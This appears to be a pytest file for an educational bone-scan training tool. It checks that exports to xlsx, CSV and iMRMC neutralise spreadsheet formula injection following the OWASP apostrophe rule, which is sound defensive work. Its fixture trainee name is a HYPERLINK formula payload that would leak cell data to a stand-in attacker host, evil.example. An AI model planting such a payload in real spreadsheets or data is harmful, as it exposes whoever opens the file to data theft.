"""Formula-looking names and keys stay data in every export: strings in xlsx, a leading
apostrophe in CSV (OWASP), typed as they were everywhere else."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bonescan_tutor.core.scoring import summary
from bonescan_tutor.storage.cells import csv_cell, formula_like
from bonescan_tutor.storage.cohort import load_cohort
from bonescan_tutor.storage.cohort_workbook import write_cohort_csv, write_cohort_workbook
from bonescan_tutor.storage.export import (
    export_attempts_csv,
    export_imrmc,
    export_workbook,
)
from tests.storage.instructor_data import M, N, quiz_set, stored, write_trainee

NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
KEY = "@SUM(1)"
NAMES = {1: NAME, 2: "+1-555", 3: "-x", 4: "\tTab"}


def attempts() -> list:
    return [
        stored(KEY, M, M, 90, trainee_id=1, row_id=1),
        stored("7", N, N, 80, trainee_id=1, row_id=2),
        stored("7", N, M, 60, trainee_id=2, session_id=2, row_id=3),
        stored(KEY, M, M, 70, trainee_id=3, session_id=3, row_id=4),
        stored("7", N, N, 70, trainee_id=4, session_id=4, row_id=5),
    ]


def xlsx_text_cells(path: Path) -> dict[str, list]:
    """Every cell holding one of our formula-like values, per sheet."""
    found: dict[str, list] = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if formula_like(cell.value):
                    found.setdefault(ws.title, []).append(cell)
    return found


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize(
    ("value", "out"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Ana", "Ana"), ("", ""), (5, 5), (-5.0, -5.0), (None, None)],
)
def test_csv_cell_follows_the_owasp_rule(value, out) -> None:
    assert csv_cell(value) == out


def test_answers_workbook_writes_strings(tmp_path: Path) -> None:
    rows = attempts()
    summaries = {NAME: summary([s.answer for s in rows[:2]])}
    out = export_workbook(rows, summaries, tmp_path / "a.xlsx", trainee_names=NAMES)
    found = xlsx_text_cells(out)
    cells = [c for sheet in found.values() for c in sheet]
    assert {c.value for c in cells} == {NAME, KEY, "+1-555", "-x", "\tTab"}  # as typed
    assert all(c.data_type == "s" for c in cells)
    assert {"Summary", "Attempts"} <= set(found)


def test_answers_csv_gets_the_apostrophe(tmp_path: Path) -> None:
    out = export_attempts_csv(attempts(), tmp_path / "a.csv", trainee_names=NAMES)
    rows = csv_rows(out)
    assert rows[1][0] == "'" + NAME and rows[1][2] == "'" + KEY
    assert [r[0] for r in rows[3:]] == ["'+1-555", "'-x", "'\tTab"]


def test_imrmc_ids_get_the_apostrophe(tmp_path: Path) -> None:
    out = export_imrmc(attempts(), tmp_path / "a.imrmc", trainee_names=NAMES)
    data = out.read_text().split("BEGIN DATA:\n")[1].splitlines()
    assert all(not line.startswith(("=", "+", "@")) for line in data)
    for line in data:
        cells = line.split(",")
        assert not any(formula_like(c) for c in cells[:3] if c != "-1"), line
    # The IDs are numbers; names and keys are in the key tables beside the file.
    readers = [r[1] for r in csv_rows(tmp_path / "a.readers.csv")[1:]]
    cases = [r[1] for r in csv_rows(tmp_path / "a.cases.csv")[1:]]
    assert "'" + NAME in readers and "'@SUM(1)" in cases
    assert not any(formula_like(c) for c in readers + cases)


def test_cohort_workbook_and_csv(tmp_path: Path) -> None:
    qs = quiz_set(keys=(KEY, "7"))
    truths = {KEY: M, "7": N}
    write_trainee(qs, tmp_path / "in", NAME, {KEY: M, "7": N}, truths, 0)
    write_trainee(qs, tmp_path / "in", "-Bo", {KEY: N, "7": N}, truths, 1)
    cohort = load_cohort([tmp_path / "in"])
    assert set(cohort.trainees) == {NAME, "-Bo"}
    book = write_cohort_workbook(cohort, tmp_path / "c.xlsx")
    found = xlsx_text_cells(book)
    cells = [c for sheet in found.values() for c in sheet]
    assert {"Trainees", "Items", "Answers", "Most missed"} <= set(found)
    assert {c.value for c in cells} >= {NAME, KEY, "-Bo"}
    assert all(c.data_type == "s" for c in cells)
    table = csv_rows(write_cohort_csv(cohort, tmp_path / "c.csv"))
    assert sorted(r[0] for r in table[2:]) == ["'-Bo", "'" + NAME]
